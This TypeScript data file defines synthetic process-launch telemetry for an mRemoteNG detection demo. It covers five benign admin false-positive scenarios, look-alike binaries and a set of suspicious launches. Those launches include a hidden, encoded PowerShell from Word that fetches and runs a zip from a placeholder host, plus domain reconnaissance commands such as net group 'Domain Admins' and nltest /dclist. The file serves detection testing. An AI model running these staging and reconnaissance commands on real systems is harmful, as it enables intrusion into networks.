// mRemoteNG's demo story as data, read by the one generator (demo-tools.ts) like every other tool's: the seed
// rule's five false-positive scenarios (each a set of launch contexts its exclusion targets), abuse outside
// all of them, and look-alike builds that `has 'mRemoteNG'` must not match. The builds are the fleet's
// binaries `mremoteng:*` and `nearmiss:*` (demo-binaries.ts).
import type { StoryLaunch, ToolSpec } from './demo-tool-story';

const MINUTE = 60;
const HOUR = 3600;
const DAY = 86_400;
const SINCE_BOOT = [HOUR, 9 * DAY] as const;
const SINCE_LOGON = [5 * MINUTE, 10 * HOUR] as const;
const JUST_NOW = [2, 20 * MINUTE] as const;
const POWERSHELL = '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"';
const IME = 'C:\\Program Files (x86)\\Microsoft Intune Management Extension';
const VEEAM = 'C:\\Program Files\\Veeam\\Backup and Replication\\Backup';
/** Installed builds, mostly the current release (a list is a weighted pick). */
const INSTALLED = [
  'mremoteng:installed',
  'mremoteng:installed',
  'mremoteng:installed',
  'mremoteng:installedLower',
  'mremoteng:upper',
];

/** About 3.5% of the fleet runs mRemoteNG: 5 x 5.5% in a false-positive scenario, the rest abuse only. */
const FP_SHARE = 0.00385;
const PROCESS_ONLY = ['DeviceProcessEvents'] as const;

/** "Suspicious" here means outside every false-positive context: what a hunt should still show. */
const SUSPICIOUS_LAUNCHES: readonly StoryLaunch[] = [
  {
    parent: 'explorer.exe',
    grandparent: 'userinit.exe',
    parentCommand: 'C:\\Windows\\Explorer.EXE',
    command: '"{path}"',
    account: 'user',
    parentAge: SINCE_LOGON,
    binary: ['mremoteng:portable', 'mremoteng:portable', 'mremoteng:installed'],
    children: [
      { binary: 'cmd.exe', command: 'cmd.exe /c whoami /all' },
      {
        binary: 'puttyng.exe',
        command: '"C:\\Program Files (x86)\\mRemoteNG\\PuTTYNG.exe" -load "{host}" -ssh',
      },
    ],
  },
  {
    parent: 'cmd.exe',
    grandparent: 'wscript.exe',
    parentCommand:
      'cmd.exe /c start "" "C:\\ProgramData\\mrng\\mRemoteNG.exe" --cons C:\\ProgramData\\mrng\\c.xml',
    command: '"{path}" --cons C:\\ProgramData\\mrng\\c.xml',
    account: 'user',
    parentAge: [1, 5],
    binary: 'mremoteng:stagedPortable',
    children: [
      { binary: 'cmd.exe', command: 'cmd.exe /c net group "Domain Admins" /domain' },
      {
        binary: 'powershell.exe',
        command:
          'powershell.exe -nop -c "Get-ADComputer -Filter * -Properties OperatingSystem | Export-Csv C:\\Users\\Public\\c.csv"',
      },
    ],
  },
  {
    parent: 'powershell.exe',
    grandparent: 'winword.exe',
    parentCommand: 'powershell.exe -nop -w hidden -enc {b64}',
    encodedScript:
      "$p='C:\\ProgramData\\mrng';iwr http://{ip}/u/m.zip -o $p\\m.zip;Expand-Archive $p\\m.zip $p -Force;saps $p\\mRemoteNG.exe '--cons' \\\\{host}\\c$\\c.xml",
    command: '"{path}"',
    account: 'user',
    parentAge: [1, 30],
    binary: 'mremoteng:stagedPortable',
    children: [{ binary: 'cmd.exe', command: 'cmd.exe /c nltest /dclist:' }],
  },
  {
    parent: 'powershell.exe',
    grandparent: 'cmd.exe',
    parentCommand:
      'powershell.exe -c "iwr https://github.com/mRemoteNG/mRemoteNG/releases/download/v1.76.20/mRemoteNG-Portable-1.76.20.24615.zip -OutFile $env:TEMP\\m.zip; Expand-Archive $env:TEMP\\m.zip C:\\ProgramData\\mrng -Force; & C:\\ProgramData\\mrng\\mRemoteNG.exe"',
    command: 'C:\\ProgramData\\mrng\\mRemoteNG.exe',
    account: 'user',
    parentAge: [5, 120],
    binary: 'mremoteng:stagedPortable',
  },
  {
    parent: 'mmc.exe',
    grandparent: 'explorer.exe',
    parentCommand: '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\compmgmt.msc" /s',
    command: '"{path}"',
    account: 'admin',
    parentAge: [MINUTE, 2 * HOUR],
    binary: INSTALLED,
  },
  {
    parent: 'cmd.exe',
    grandparent: 'explorer.exe',
    parentCommand: '"C:\\Windows\\system32\\cmd.exe"',
    command: '"{path}" --cons \\\\{host}\\c$\\Users\\Public\\confCons.xml',
    account: 'user',
    parentAge: [10, 40 * MINUTE],
    binary: ['mremoteng:upper', 'mremoteng:installedLower'],
    children: [{ binary: 'cmd.exe', command: 'cmd.exe /c reg query HKLM\\SOFTWARE\\mRemoteNG /s' }],
  },
  {
    parent: 'explorer.exe',
    grandparent: 'userinit.exe',
    parentCommand: 'C:\\Windows\\Explorer.EXE',
    command: '"{path}"',
    account: 'admin',
    parentAge: SINCE_LOGON,
    binary: INSTALLED,
  },
];

const USERS = ['laptop', 'client'] as const;

/** Look-alike products, each on a device of its own and next to real launches, so per-device counts must leave them out. */
const NEAR_MISS_LAUNCHES: readonly StoryLaunch[] = ['suffixed', 'prefixed', 'split'].map((build) => ({
  binary: `nearmiss:${build}`,
  parent: 'explorer.exe',
  grandparent: 'userinit.exe',
  parentCommand: 'C:\\Windows\\Explorer.EXE',
  command: '"{path}"',
  account: 'user',
  parentAge: SINCE_LOGON,
}));

export const MREMOTENG: ToolSpec = {
  tool: 'mRemoteNG',
  // The seed rule's tests count on its launches at every size, so its density does not depend on the others.
  eventShare: 0.018,
  binaries: {},
  stories: [
    {
      id: 'fp-admin-scripts',
      kind: 'benign-admin',
      label: 'fp-admin-scripts',
      summary: 'An administrator uses mRemoteNG to launch PowerShell scripts for routine updates.',
      devices: { prefer: ['it-admin-client', 'profile:rds', 'any-client'], share: FP_SHARE, min: 2 },
      days: { from: 30 },
      trend: 'adopting',
      perDay: 0.7,
      timing: 'business',
      alsoLaunch: 0.3,
      tables: PROCESS_ONLY,
      launches: [
        {
          parent: 'powershell.exe',
          grandparent: 'explorer.exe',
          parentCommand: `${POWERSHELL} -NoProfile -Command "Update-Module -Name PSWindowsUpdate,Az.Accounts -Force; Start-Process '{path}' -ArgumentList '--cons \\\\{host}\\it$\\mRemoteNG\\servers.xml'"`,
          command: '"{path}" --cons \\\\{host}\\it$\\mRemoteNG\\servers.xml',
          account: 'admin',
          parentAge: JUST_NOW,
          binary: INSTALLED,
          children: [
            {
              binary: 'powershell.exe',
              command: `${POWERSHELL} -NoProfile -Command "Invoke-Command -ComputerName {host} -ScriptBlock { Update-Module -Name PSWindowsUpdate -Force; Install-WindowsUpdate -AcceptAll -IgnoreReboot }"`,
            },
          ],
        },
        {
          parent: 'powershell.exe',
          grandparent: 'explorer.exe',
          parentCommand: `powershell.exe -ExecutionPolicy Bypass -Command "Install-Script -Name Get-WindowsAutopilotInfo -Force -Scope CurrentUser; & '{path}'"`,
          command: '"{path}"',
          account: 'admin',
          parentAge: JUST_NOW,
          binary: INSTALLED,
          children: [
            {
              binary: 'powershell.exe',
              command: `${POWERSHELL} -NoProfile -Command "Install-Script -Name Get-WindowsAutopilotInfo -Force; Get-WindowsAutopilotInfo.ps1 -ComputerName {host} -OutputFile C:\\Temp\\autopilot-{n}.csv"`,
            },
          ],
        },
        {
          parent: 'powershell.exe',
          grandparent: 'cmd.exe',
          parentCommand: `${POWERSHELL} -NoProfile -File C:\\Scripts\\Maintenance.ps1 -Step "Update-Module ExchangeOnlineManagement" -Then "{path}"`,
          command: '"{path}" --cons C:\\Scripts\\maintenance-targets.xml',
          account: 'admin',
          parentAge: JUST_NOW,
          binary: INSTALLED,
        },
      ],
    },
    {
      id: 'fp-scheduled-monitoring',
      kind: 'benign-admin',
      label: 'fp-scheduled-monitoring',
      summary:
        'Scheduled tasks and monitoring agents (PRTG, NSClient++, SolarWinds) run health checks through mRemoteNG.',
      devices: { prefer: ['profile:monitoring', 'server'], share: FP_SHARE, min: 2 },
      days: { from: 30 },
      trend: 'adopting',
      perDay: 0.9,
      timing: 'schedule',
      alsoLaunch: 0.3,
      tables: PROCESS_ONLY,
      launches: [
        {
          parent: 'svchost.exe',
          grandparent: 'services.exe',
          parentCommand: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
          command: '"{path}" --cons "C:\\Monitoring\\mRemoteNG\\health-checks.xml"',
          account: 'service',
          parentAccount: 'system',
          parentAge: SINCE_BOOT,
          binary: 'mremoteng:installed',
          children: [
            {
              binary: 'cmd.exe',
              command: 'cmd.exe /c "C:\\Monitoring\\scripts\\check-rdp-latency.cmd" {host}',
            },
          ],
        },
        {
          parent: 'taskeng.exe',
          grandparent: 'svchost.exe',
          parentCommand: 'taskeng.exe {{guid}} S-1-5-18:NT AUTHORITY\\System:Service:',
          command: '"{path}" --cons "C:\\Monitoring\\mRemoteNG\\health-checks.xml"',
          account: 'system',
          parentAge: [1, 30],
          binary: 'mremoteng:installed',
        },
        {
          parent: 'taskhostw.exe',
          grandparent: 'svchost.exe',
          parentCommand: 'taskhostw.exe {guid}',
          command: '"{path}" --cons "C:\\Monitoring\\mRemoteNG\\perf-baseline.xml"',
          account: 'service',
          parentAge: [1, 30],
          binary: ['mremoteng:installed', 'mremoteng:installedLower'],
          children: [
            {
              binary: 'powershell.exe',
              command: `${POWERSHELL} -NoProfile -File C:\\Monitoring\\scripts\\Get-PerfCounters.ps1 -Computer {host}`,
            },
          ],
        },
        {
          on: 'server:prtg',
          parent: 'prtg probe.exe',
          grandparent: 'services.exe',
          parentCommand: '"C:\\Program Files (x86)\\PRTG Network Monitor\\PRTG Probe.exe"',
          command:
            '"{path}" --cons "C:\\Program Files (x86)\\PRTG Network Monitor\\Custom Sensors\\EXE\\rdp-targets.xml"',
          account: 'service',
          parentAge: SINCE_BOOT,
          binary: 'mremoteng:installed',
        },
        {
          on: 'server:nagios',
          parent: 'nscp.exe',
          grandparent: 'services.exe',
          parentCommand: '"C:\\Program Files\\NSClient++\\nscp.exe" service --run --name nscp',
          command: '"{path}" --cons "C:\\Program Files\\NSClient++\\scripts\\rdp-check.xml"',
          account: 'system',
          parentAge: SINCE_BOOT,
          binary: 'mremoteng:installed',
          children: [
            {
              binary: 'cmd.exe',
              command: 'cmd /c scripts\\check_rdp.bat {host} 3389',
            },
          ],
        },
        {
          on: 'server:mon',
          parent: 'solarwinds.agent.service.exe',
          grandparent: 'services.exe',
          parentCommand: '"C:\\Program Files (x86)\\SolarWinds\\Agent\\SolarWinds.Agent.Service.exe"',
          command: '"{path}" --cons "C:\\ProgramData\\SolarWinds\\Agent\\rdp-monitor.xml"',
          account: 'system',
          parentAge: SINCE_BOOT,
          binary: 'mremoteng:installed',
        },
      ],
    },
    {
      id: 'fp-configmgr-intune',
      kind: 'benign-admin',
      label: 'fp-configmgr-intune',
      summary:
        'Configuration Manager and Intune start mRemoteNG for an agent update in the maintenance window.',
      devices: { prefer: ['profile:configmgr', 'it-admin-client', 'any-client'], share: FP_SHARE, min: 2 },
      days: { from: 30 },
      trend: 'adopting',
      perDay: 0.45,
      timing: 'maintenance',
      alsoLaunch: 0.3,
      tables: PROCESS_ONLY,
      launches: [
        {
          parent: 'ccmexec.exe',
          grandparent: 'services.exe',
          parentCommand: 'C:\\Windows\\CCM\\CcmExec.exe',
          command: '"{path}" --cons "C:\\Windows\\ccmcache\\{n}\\mem-agent-targets.xml"',
          account: 'system',
          parentAge: SINCE_BOOT,
          binary: ['mremoteng:installed', 'mremoteng:installedLower'],
          children: [
            {
              binary: 'ccmsetup.exe',
              command:
                '"C:\\Windows\\ccmsetup\\ccmsetup.exe" /mp:{host} SMSSITECODE=P01 /forceinstall /upgrade',
            },
          ],
        },
        {
          parent: 'intunemanagementextension.exe',
          grandparent: 'services.exe',
          parentCommand: `"${IME}\\IntuneManagementExtension.exe"`,
          command: '"{path}"',
          account: 'system',
          parentAge: SINCE_BOOT,
          binary: 'mremoteng:installed',
          children: [
            {
              binary: 'agentexecutor.exe',
              command: `"${IME}\\AgentExecutor.exe" -powershell "${IME}\\Policies\\Scripts\\{guid}_Update-MEMAgent.ps1" "${IME}\\Policies\\Results\\{guid}_1.output" 60000 "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" 0`,
            },
          ],
        },
        {
          parent: 'agentexecutor.exe',
          grandparent: 'IntuneManagementExtension.exe',
          parentCommand: `"${IME}\\AgentExecutor.exe" -powershell "${IME}\\Policies\\Scripts\\{guid}_Update-MEMAgent.ps1" "${IME}\\Policies\\Results\\{guid}_1.output" 60000 "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" 0`,
          command:
            '"{path}" --cons "C:\\ProgramData\\Microsoft\\IntuneManagementExtension\\mem-agent-update.xml"',
          account: 'system',
          parentAge: [1, 60],
          binary: 'mremoteng:installed',
        },
      ],
    },
    {
      id: 'fp-rdp-windows-update',
      kind: 'benign-admin',
      label: 'fp-rdp-windows-update',
      summary: 'An RDP session through mRemoteNG, or the Windows Update service, patches a host.',
      devices: { prefer: ['profile:rds', 'server'], share: FP_SHARE, min: 2 },
      days: { from: 30 },
      trend: 'adopting',
      perDay: 0.7,
      timing: 'business',
      alsoLaunch: 0.3,
      tables: PROCESS_ONLY,
      launches: [
        {
          parent: 'rdpclip.exe',
          grandparent: 'svchost.exe',
          parentCommand: 'rdpclip',
          command: '"{path}"',
          account: 'admin',
          parentAge: SINCE_LOGON,
          binary: INSTALLED,
          children: [
            {
              binary: 'usoclient.exe',
              command: 'UsoClient.exe StartInteractiveScan',
            },
          ],
        },
        {
          parent: 'mstsc.exe',
          grandparent: 'explorer.exe',
          parentCommand: '"C:\\Windows\\system32\\mstsc.exe" /v:{host} /admin',
          command: '"{path}" --cons \\\\{host}\\it$\\mRemoteNG\\patch-targets.xml',
          account: 'admin',
          parentAge: [MINUTE, 3 * HOUR],
          binary: INSTALLED,
        },
        {
          parent: 'svchost.exe',
          grandparent: 'services.exe',
          parentCommand: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -s wuauserv',
          command: '"{path}"',
          account: 'system',
          parentAge: SINCE_BOOT,
          binary: 'mremoteng:installed',
          timing: 'maintenance',
          children: [
            {
              binary: 'wuauclt.exe',
              command: '"C:\\Windows\\system32\\wuauclt.exe" /detectnow /updatenow',
            },
          ],
        },
      ],
    },
    {
      id: 'fp-veeam-backup',
      kind: 'benign-admin',
      label: 'fp-veeam-backup',
      summary: 'Nightly Veeam backup jobs run their pre- and post-job scripts through mRemoteNG.',
      devices: { prefer: ['profile:veeam', 'server'], share: FP_SHARE, min: 2 },
      days: { from: 30 },
      trend: 'adopting',
      perDay: 0.92,
      timing: 'nightly',
      alsoLaunch: 0.3,
      tables: PROCESS_ONLY,
      launches: [
        {
          parent: 'veeam.backup.manager.exe',
          grandparent: 'Veeam.Backup.Service.exe',
          parentCommand: `"${VEEAM}\\Veeam.Backup.Manager.exe" startbackupjob owner=[vbsvc] {guid}`,
          command: '"{path}" --cons "D:\\Scripts\\Veeam\\pre-job-hosts.xml"',
          account: 'service',
          parentAge: [5, 10 * MINUTE],
          binary: 'mremoteng:installed',
          children: [
            {
              binary: 'powershell.exe',
              command: `${POWERSHELL} -NoProfile -ExecutionPolicy Bypass -File "D:\\Scripts\\Veeam\\Pre-Backup-Freeze.ps1" -Job "Nightly-Backup" -Target {host}`,
            },
            {
              binary: 'cmd.exe',
              command: 'cmd.exe /c "D:\\Scripts\\Veeam\\post-backup.cmd" Nightly-Backup {n}',
            },
          ],
        },
        {
          parent: 'veeamagent.exe',
          grandparent: 'Veeam.Backup.Manager.exe',
          parentCommand: `"${VEEAM}\\x64\\VeeamAgent.exe" -l "C:\\ProgramData\\Veeam\\Backup\\Nightly-Backup\\Agent.Target.{n}.log" -id {guid}`,
          command: '"{path}" --cons "D:\\Scripts\\Veeam\\backup-targets.xml"',
          account: 'service',
          parentAge: [5, 2 * HOUR],
          binary: 'mremoteng:installed',
        },
      ],
    },
    {
      id: 'suspicious',
      kind: 'suspicious',
      label: 'suspicious',
      summary:
        'Users run mRemoteNG from Downloads or a staged ProgramData copy (one fetched by PowerShell), often at night; some try it for a few days, and a few hosts of the false-positive scenarios run it outside them too.',
      devices: [
        { prefer: USERS, share: 0.01085, min: 1, trend: 'adopting' },
        { prefer: USERS, share: 0.00465, min: 1, trend: 'burst', rate: 1.6 },
        {
          among: [
            'fp-admin-scripts',
            'fp-scheduled-monitoring',
            'fp-configmgr-intune',
            'fp-rdp-windows-update',
            'fp-veeam-backup',
          ],
          share: 0.007,
          min: 2,
          rate: 0.4,
        },
      ],
      days: { from: 30 },
      trend: 'adopting',
      perDay: 1,
      timing: 'anytime',
      tables: PROCESS_ONLY,
      launches: SUSPICIOUS_LAUNCHES,
    },
    {
      id: 'near-miss',
      kind: 'near-miss',
      label: 'near-miss',
      summary: 'mRemoteNGx, NotmRemoteNG and mRemote: names that contain the term without being it.',
      devices: [
        { prefer: ['client'], share: 0, min: 3 },
        { among: ['suspicious'], share: 0, min: 3, rate: 0.3 },
      ],
      days: { from: 30 },
      trend: 'adopting',
      perDay: 0.7,
      timing: 'business',
      tables: PROCESS_ONLY,
      launches: NEAR_MISS_LAUNCHES,
    },
  ],
};
